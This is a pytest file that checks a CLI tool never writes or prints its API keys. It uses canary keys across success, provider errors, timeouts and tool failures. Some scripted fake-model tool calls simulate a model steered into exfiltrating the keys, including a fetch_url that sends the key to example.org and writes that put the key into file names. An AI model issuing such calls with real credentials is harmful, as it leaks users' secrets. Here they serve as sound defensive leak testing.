"""Keys never leak: canary keys through success and failures, then every byte written under
PENSIEVE_HOME and everything printed is searched for them."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.conftest import Home
from tests.fakes.cli_process import child_env, exec_cli
from tests.fakes.model_server import call, calls, error, hang

MODEL_CANARY = "sk-canary-model-4d2f9b7e1a"
SEARCH_CANARY = "srch-canary-search-8e3c5a"
CANARIES = (MODEL_CANARY, SEARCH_CANARY)


def assert_no_canary_under(root: Path) -> None:
    leaks = []
    for path in root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            leaks += [f"{path}: {c}" for c in CANARIES if c.encode() in data]
    assert not leaks, leaks


@pytest.fixture
def canary_home(home: Home) -> Home:
    home.monkeypatch.setenv("OPENAI_API_KEY", MODEL_CANARY)
    home.monkeypatch.setenv("SEARCH_API_KEY", SEARCH_CANARY)
    home.configure(llm={"retries": 1, "timeout_s": 0.5})
    return home


def test_canary_keys_never_reach_files_or_output(canary_home: Home, capfd: pytest.CaptureFixture[str]) -> None:
    home = canary_home
    printed: list[str] = []

    def run(*args: str) -> int:
        result = home.run(*args)
        printed.extend([result.stdout, result.stderr])
        return result.exit_code

    # 1. Success, with tool calls whose arguments carry the keys (a model steered into
    #    exfiltrating them): the refusals and summaries are logged, the keys are not.
    home.model.script(
        "refiner",
        calls(
            ("read_project_file", '{"filename": "{auth}.md"}'),
            ("read_project_file", {"filename": f"{SEARCH_CANARY}.md"}),
            ("write_project_file", {"filename": "scratch/{auth}", "content": "x"}),
        ),
    )
    ok = home.new("Secrets stay secret")
    assert run("run", ok) == 0

    # 2. 401 whose body echoes the key it refused, as some providers do.
    refused = home.new("A refused key")
    home.model.script("refiner", error(401, body='{"error": {"message": "Incorrect API key provided: {auth}"}}'))
    assert run("run", refused) == 1

    # 3. 500s echoing the request's headers, until the retries are spent.
    broken = home.new("A broken provider")
    body = '{"error": {"message": "upstream failed for Authorization: {auth}"}}'
    home.model.script("refiner", error(500, body=body), error(500, body=body))
    assert run("run", broken) == 1

    # 4. Timeouts.
    slow = home.new("A slow provider")
    home.model.script("refiner", hang(2.0), hang(2.0))
    assert run("run", slow) == 1

    # 5. An exception inside a tool: the model names a tool that is not offered, sends
    #    arguments that break validation, and a write that fails on disk.
    tool_errors = home.new("Tool failures")
    (home.project_dir(tool_errors) / "scratch").write_text("a file where a directory should be")
    home.model.script(
        "refiner",
        calls(
            ("fetch_url", '{"url": "https://example.org/?api_key={auth}"}'),
            ("read_project_file", '{"filename": {"key": "{auth}"}}'),
            ("write_project_file", '{"filename": "scratch/{auth}.md", "content": "{auth}"}'),
        ),
        call("read_project_file", '{"filename": "{auth}'),
    )
    assert run("run", tool_errors) == 0

    for args in (("list",), ("list", "--json"), ("status", refused), ("status", broken, "--json")):
        assert run(*args) == 0

    captured = capfd.readouterr()
    everything = "".join(printed) + captured.out + captured.err
    for canary in CANARIES:
        assert canary not in everything
    # The provider texts that carried the key were kept, scrubbed.
    assert "Authorization: Bearer [REDACTED]" in (home.project_dir(broken) / "status.json").read_text()
    assert "Incorrect API key provided: Bearer [REDACTED]" in (home.project_dir(refused) / "events.jsonl").read_text()
    assert_no_canary_under(home.path)
    # The keys really were sent where the test says: the fake model saw them.
    assert any(MODEL_CANARY in r.authorization for r in home.model.requests)


@pytest.mark.slow
def test_a_real_process_with_debug_logging_asked_for_leaks_nothing(canary_home: Home) -> None:
    home = canary_home
    pid = home.new("Debug logging")
    home.model.script("refiner", error(401, body='{"error": {"message": "bad key {auth}"}}'))
    env = child_env(
        home.path,
        {"OPENAI_API_KEY": MODEL_CANARY, "SEARCH_API_KEY": SEARCH_CANARY, "LITELLM_LOG": "DEBUG"},
    )
    out, err = home.path / "out.txt", home.path / "err.txt"
    process = exec_cli(["run", pid], env, home.path, out, err)
    assert process.wait(timeout=120) == 1
    stderr = err.read_text()
    assert "OPENAI_API_KEY" in stderr
    assert "Traceback" not in stderr
    assert_no_canary_under(home.path)
    assert os.environ["OPENAI_API_KEY"] == MODEL_CANARY
